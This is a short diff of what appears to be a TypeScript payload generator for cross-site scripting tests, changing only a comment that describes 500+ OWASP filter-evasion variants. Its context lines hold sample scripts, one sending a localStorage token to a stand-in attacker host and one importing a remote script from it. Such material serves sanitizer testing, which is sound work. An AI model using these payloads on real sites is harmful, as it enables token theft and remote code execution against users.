@@ -1,6 +1,6 @@
 /**
- * Texts that try to be more than text: the ways of OWASP's filter evasion sheet, made from parts, and what breaks headers and
- * templates. More than 500.
+ * More than 500 texts that try to act as markup: the variants of OWASP's filter evasion sheet, and texts that break headers
+ * and templates.
  */
 const SCRIPTS = ["alert(1)", "fetch('//evil.example/'+localStorage.token)", "import('//evil.example/x.js')"]
 const TAGS = (script: string) => [
